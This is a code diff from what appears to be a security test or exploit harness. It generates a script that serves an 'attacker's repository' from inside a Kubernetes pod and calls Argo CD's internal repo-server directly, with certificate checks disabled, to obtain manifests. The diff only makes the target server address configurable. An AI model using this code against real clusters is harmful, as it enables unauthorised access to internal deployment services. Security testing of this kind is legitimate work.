@@ -37,8 +37,16 @@ async function attackersRepository(): Promise<{ files: Record<string, string>; c
   }
 }
 
-/** JavaScript for a pod: serves that repository, asks repo-server for its manifests with a program of its own, prints the answer. */
-export async function generateManifest(podIP: string): Promise<string> {
+/**
+ * JavaScript for a pod, or a node's network: serves that repository, asks repo-server for its manifests with a program of its
+ * own, and prints the answer.
+ * @param podIP where it runs
+ * @param server where repo-server is
+ */
+export async function generateManifest(
+  podIP: string,
+  server = "argocd-repo-server.argocd.svc.cluster.local",
+): Promise<string> {
   const { files, commit } = await attackersRepository();
   return `
     import { createServer } from "node:http";
@@ -68,7 +76,7 @@ export async function generateManifest(podIP: string): Promise<string> {
     const frame = Buffer.alloc(5);
     frame.writeUInt32BE(message.length, 1);
     const said = [];
-    const session = connect("https://argocd-repo-server.argocd.svc.cluster.local:8081", { rejectUnauthorized: false });
+    const session = connect("https://${server}:8081", { rejectUnauthorized: false });
     const answer = new Promise((done) => {
       session.on("error", (error) => done("refused: " + error.message));
       session.on("close", () => done("closed"));
